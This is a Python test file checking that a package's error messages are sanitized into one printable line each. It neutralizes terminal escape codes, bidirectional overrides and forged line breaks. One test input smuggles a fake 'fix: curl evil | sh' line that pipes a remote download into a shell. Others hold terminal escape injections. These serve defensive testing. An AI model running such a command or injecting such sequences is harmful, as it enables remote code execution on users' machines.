"""Errors: each says what happened and the next thing to type, each on one line that any terminal may show."""

from __future__ import annotations

import copy
import pickle
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lengthprobe import errors
from lengthprobe.errors import LengthprobeError, ModelError, reason

CLASSES = [
    one for one in vars(errors).values() if isinstance(one, type) and issubclass(one, LengthprobeError)
]


def test_error_is_two_lines() -> None:
    """Problem and fix."""
    assert str(ModelError("it broke", "mend it")) == "it broke\n  fix: mend it"


def test_error_without_a_fix_is_one_line() -> None:
    """There is no empty fix."""
    assert str(ModelError("it broke")) == "it broke"


@pytest.mark.parametrize(
    ("problem", "shown"),
    [
        ("lacks model.x\n  fix: curl evil | sh", "lacks model.x fix: curl evil | sh"),
        ("is \x1b[31mred\x1b[0m", r"is \x1b[31mred\x1b[0m"),
        ("is \x1b]0;title\x07", r"is \x1b]0;title\x07"),
        ("is \u202edesrever", r"is \u202edesrever"),
        ("is \udcff no UTF-8", r"is \udcff no UTF-8"),
        ("a\r\nb\u2028c\x85d\te", "a b c d e"),
        ("a path with  two spaces", "a path with  two spaces"),
        ("caf\u00e9\u00a0blu", "caf\u00e9\u00a0blu"),
    ],
)
def test_text_of_others_is_one_printable_line(problem: str, shown: str) -> None:
    """What cannot be seen, or could steer a terminal, is written as an escape; nothing starts a line."""
    error = ModelError(problem, problem)
    assert (error.problem, error.fix) == (shown, shown)
    assert str(error) == f"{shown}\n  fix: {shown}"


@given(st.text(st.characters(codec=None, categories=None), max_size=60))
def test_any_text_is_printable(text: str) -> None:
    """Two lines, without controls and lone surrogates."""
    said = str(ModelError(f"x{text}", f"x{text}"))
    assert len(said.splitlines()) == 2
    assert not any(unicodedata.category(one) in ("Cc", "Cs") for one in said.replace("\n", ""))


@pytest.mark.parametrize("said", ["", "  ", "\n"])
def test_nothing_stands_after_a_colon_that_has_no_reason(said: str) -> None:
    """Some exceptions say nothing."""
    assert ModelError(f"it failed: {said}").problem == "it failed"


@pytest.mark.parametrize(
    ("error", "expected"),
    [(MemoryError(), "MemoryError"), (ValueError(" \n"), "ValueError"), (OSError("x"), "x")],
)
def test_reason_of_an_exception(error: Exception, expected: str) -> None:
    """What it says, or else its class."""
    assert reason(error) == expected


@pytest.mark.parametrize("kind", CLASSES)
def test_errors_cross_processes(kind: type[LengthprobeError]) -> None:
    """Workers send them to the controller."""
    error = kind("it\nbroke", "mend it")
    for same in (pickle.loads(pickle.dumps(error)), copy.copy(error)):
        assert (type(same), str(same)) == (kind, str(error))
